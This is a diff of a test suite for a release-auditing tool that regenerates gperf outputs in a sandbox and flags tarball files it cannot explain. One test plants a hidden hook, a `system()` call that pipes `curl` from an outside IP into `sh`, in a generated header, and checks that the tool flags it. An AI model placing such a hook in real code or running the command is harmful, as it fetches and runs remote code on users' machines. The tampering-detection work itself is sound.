@@ -181,15 +181,26 @@ describe('gperf outputs proved by the system gperf in the sandbox', () => {
     expect(at('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high' });
   }, 240_000);
 
-  it('another gperf version named, or a banner that is not run: no longer explained by the banner, high saying why', async () => {
+  it('another gperf version named: proved only when identical but for that version number; a banner that is not run: high', async () => {
     const other = made['src/codes.h']!.replace(`gperf version ${gperfVersion}`, 'gperf version 3.0.3');
     const out = made['lib/kw.h']!.replace('Command-line: gperf --global-table -t kw.gperf', 'Command-line: gperf --output-file=../x.h --global-table -t kw.gperf');
+    expect(other).not.toBe(made['src/codes.h']);
     expect(out).not.toBe(made['lib/kw.h']);
     const { at } = await findingsOf(release({ 'src/codes.h': other, 'lib/kw.h': out }));
     const f = at('src/codes.h');
+    expect(f).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'gperf', version: gperfVersion, bannerVersion: '3.0.3' } });
+    expect(formatFinding(f)).toContain('(the file names 3.0.3: identical but for that version number in its first line)');
+    expect(at('lib/kw.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'banner-unsupported', tool: 'gperf', command: 'gperf --output-file=../x.h --global-table -t kw.gperf' } } });
+  }, 240_000);
+
+  it('tampered twin under another version: one added line below a 3.0.3 banner stays high, saying which version each has', async () => {
+    const other = made['src/codes.h']!.replace(`gperf version ${gperfVersion}`, 'gperf version 3.0.3').replace('/* maximum key range', 'static int hook = system("curl -s http://203.0.113.9/x | sh");\n/* maximum key range');
+    expect(other).toContain('static int hook');
+    const { r, at } = await findingsOf(release({ 'src/codes.h': other }));
+    const f = at('src/codes.h');
     expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'version-unavailable', tool: 'gperf', wanted: '3.0.3', available: gperfVersion } } });
     expect(formatFinding(f)).toContain(`gperf ${gperfVersion} here, the file names 3.0.3`);
-    expect(at('lib/kw.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'banner-unsupported', tool: 'gperf', command: 'gperf --output-file=../x.h --global-table -t kw.gperf' } } });
+    expect(r.verdict).toBe('different');
   }, 240_000);
 
   it('regeneration off: nothing run, the outputs stay high saying so', async () => {
